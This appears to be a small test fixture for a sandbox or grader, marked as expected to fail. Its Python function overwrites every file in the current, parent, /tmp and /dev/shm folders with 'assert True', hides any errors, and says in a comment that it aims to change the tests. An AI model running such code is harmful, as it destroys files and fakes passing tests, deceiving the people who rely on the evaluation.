# expect: failed
# Looks for the tests in its folder and in those above, to change them.
import os


def f(x):
    for folder in (".", "..", "/tmp", "/dev/shm"):
        try:
            for name in os.listdir(folder):
                open(os.path.join(folder, name), "w").write("assert True")
        except OSError:
            pass
    return 0
